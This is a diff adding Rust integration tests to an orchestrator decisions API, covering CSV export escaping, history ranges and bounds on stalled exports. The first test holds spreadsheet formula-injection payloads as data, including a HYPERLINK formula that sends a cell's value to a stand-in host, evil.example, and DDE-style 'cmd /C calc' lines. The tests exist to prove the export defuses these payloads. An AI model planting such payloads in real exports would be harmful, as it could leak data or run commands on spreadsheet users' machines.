@@ -298,3 +298,190 @@ async fn in_memory_has_no_store() {
         assert!(body["error"].as_str().unwrap().contains("--in-memory"));
     }
 }
+
+/// Query texts that a spreadsheet would run as formulas reach the CSV
+/// export as text (a leading `'`), and the NDJSON export unchanged.
+#[tokio::test]
+async fn csv_export_never_carries_a_formula() {
+    let server = Server::start(&[]);
+    let c = Client::new(&server.base);
+    let payloads = [
+        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click me\")",
+        "@SUM(1+1)*cmd|'/C calc'!A0",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|'/C notepad'!A1",
+        "\t=1+1",
+    ];
+    for p in payloads {
+        let body = json!({"query": p, "tier": "fast", "score": 1.0, "decisionTimeMs": 0.1});
+        assert_eq!(c.post("/api/orchestrator/decisions", &body).await.0, 201);
+    }
+    let text = c.text("/api/orchestrator/decisions?format=csv").await;
+    let mut r = csv::Reader::from_reader(text.as_bytes());
+    let header = r.headers().unwrap().clone();
+    let at = header.iter().position(|h| h == "query").unwrap();
+    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), payloads.len());
+    for (row, p) in rows.iter().rev().zip(payloads) {
+        assert_eq!(&row[at], format!("'{p}"), "{p:?}");
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?}"
+            );
+        }
+    }
+    let ndjson = c.text("/api/orchestrator/decisions?format=ndjson").await;
+    let queries: Vec<String> = ndjson
+        .lines()
+        .map(|l| {
+            serde_json::from_str::<Value>(l).unwrap()["query"]
+                .as_str()
+                .unwrap()
+                .to_owned()
+        })
+        .collect();
+    let mut want: Vec<&str> = payloads.to_vec();
+    want.reverse();
+    assert_eq!(queries, want, "NDJSON keeps the text as it is");
+}
+
+/// A range off the step's boundaries: the first point holds `from`, so a
+/// decision made in the range is in the answer at every step.
+#[tokio::test]
+async fn history_points_cover_the_whole_range() {
+    let server = Server::start(&[]);
+    let c = Client::new(&server.base);
+    ingest(&c, 1).await;
+    let tomorrow = (chrono::Utc::now() + chrono::Duration::days(1)).format("%Y-%m-%d");
+    let to = format!("{tomorrow}T00:00:30Z");
+    for step in ["1m", "5m", "1h", "1d"] {
+        let (code, h) = c
+            .get(&format!(
+                "/api/orchestrator/history?from=-5m&to={to}&step={step}"
+            ))
+            .await;
+        assert_eq!(code, 200, "{step}: {h}");
+        let total: u64 = (0..3)
+            .map(|t| {
+                h["series"][t]["decisions"]
+                    .as_array()
+                    .unwrap()
+                    .iter()
+                    .map(|v| v.as_u64().unwrap())
+                    .sum::<u64>()
+            })
+            .sum();
+        assert_eq!(total, 1, "{step}: the decision made in the range");
+        let from: chrono::DateTime<chrono::Utc> = h["from"].as_str().unwrap().parse().unwrap();
+        assert!(
+            from <= chrono::Utc::now() - chrono::Duration::minutes(5),
+            "{step}: {from}"
+        );
+        let end: chrono::DateTime<chrono::Utc> = h["to"].as_str().unwrap().parse().unwrap();
+        assert!(
+            end >= to.parse::<chrono::DateTime<chrono::Utc>>().unwrap(),
+            "{step}: {end}"
+        );
+    }
+}
+
+/// Exports that nobody reads hold no thread and are bounded: beyond
+/// `--max-exports` a 503 with Retry-After; the rest of the API answers; a
+/// stalled one is closed after `--write-timeout`, freeing its place.
+#[tokio::test]
+async fn exports_nobody_reads_are_bounded_and_closed() {
+    let server = Server::start(&["--max-exports", "3", "--write-timeout", "2"]);
+    let c = Client::new(&server.base);
+    // About 10 MB of NDJSON: more than the socket buffers hold.
+    for chunk in 0..40 {
+        let batch: Vec<Value> = (chunk * 1000..(chunk + 1) * 1000).map(decision).collect();
+        assert_eq!(
+            c.post("/api/orchestrator/decisions", &json!(batch)).await.0,
+            201
+        );
+    }
+    let addr: std::net::SocketAddr = server.base.trim_start_matches("http://").parse().unwrap();
+    let stalled = stall_exports(addr, 3).await;
+    tokio::time::sleep(Duration::from_millis(500)).await;
+    let res = c
+        .http()
+        .get(server.url("/api/orchestrator/decisions?format=csv"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), 503);
+    assert!(res.headers().contains_key("retry-after"));
+    let body: Value = res.json().await.unwrap();
+    assert!(
+        body["error"].as_str().unwrap().contains("--max-exports"),
+        "{body}"
+    );
+    // Nothing else waits for them.
+    assert_eq!(c.get("/api/orchestrator/decisions?limit=5").await.0, 200);
+    assert_eq!(c.get("/api/orchestrator/history?from=-1h").await.0, 200);
+    // The write timeout closes them: exports are served again.
+    let served = eventually(Duration::from_secs(10), || async {
+        let res = c
+            .http()
+            .get(server.url("/api/orchestrator/decisions?format=ndjson&limit=10"))
+            .send()
+            .await
+            .unwrap();
+        res.status() == 200 && res.text().await.unwrap().lines().count() == 10
+    })
+    .await;
+    assert!(served, "the stalled exports' places are free again");
+    drop(stalled);
+}
+
+/// Exports that nobody reads hold no thread while they wait: once the
+/// blocking pool's idle threads have gone (10 s), the server has no more
+/// threads than before they were sent.
+#[tokio::test]
+async fn a_stalled_export_holds_no_thread() {
+    let server = Server::start(&["--max-exports", "20", "--write-timeout", "120"]);
+    let c = Client::new(&server.base);
+    for chunk in 0..40 {
+        let batch: Vec<Value> = (chunk * 1000..(chunk + 1) * 1000).map(decision).collect();
+        assert_eq!(
+            c.post("/api/orchestrator/decisions", &json!(batch)).await.0,
+            201
+        );
+    }
+    let addr: std::net::SocketAddr = server.base.trim_start_matches("http://").parse().unwrap();
+    let before = threads(server.pid());
+    let stalled = stall_exports(addr, 20).await;
+    tokio::time::sleep(Duration::from_secs(13)).await;
+    let after = threads(server.pid());
+    assert!(
+        after <= before + 1,
+        "{before} threads before, {after} with 20 stalled exports"
+    );
+    assert_eq!(c.get("/api/orchestrator/decisions?limit=5").await.0, 200);
+    drop(stalled);
+}
+
+/// `n` connections that ask for an NDJSON export and never read (with a
+/// tiny receive buffer, so they stall at once).
+async fn stall_exports(addr: std::net::SocketAddr, n: usize) -> Vec<tokio::net::TcpStream> {
+    use tokio::io::AsyncWriteExt as _;
+    let mut stalled = Vec::new();
+    for _ in 0..n {
+        let socket = tokio::net::TcpSocket::new_v4().unwrap();
+        socket.set_recv_buffer_size(4096).unwrap();
+        let mut s = socket.connect(addr).await.unwrap();
+        s.write_all(b"GET /api/orchestrator/decisions?format=ndjson HTTP/1.1\r\nHost: t\r\n\r\n")
+            .await
+            .unwrap();
+        stalled.push(s);
+    }
+    stalled
+}
+
+/// The threads of process `pid`.
+fn threads(pid: u32) -> usize {
+    std::fs::read_dir(format!("/proc/{pid}/task"))
+        .unwrap()
+        .count()
+}
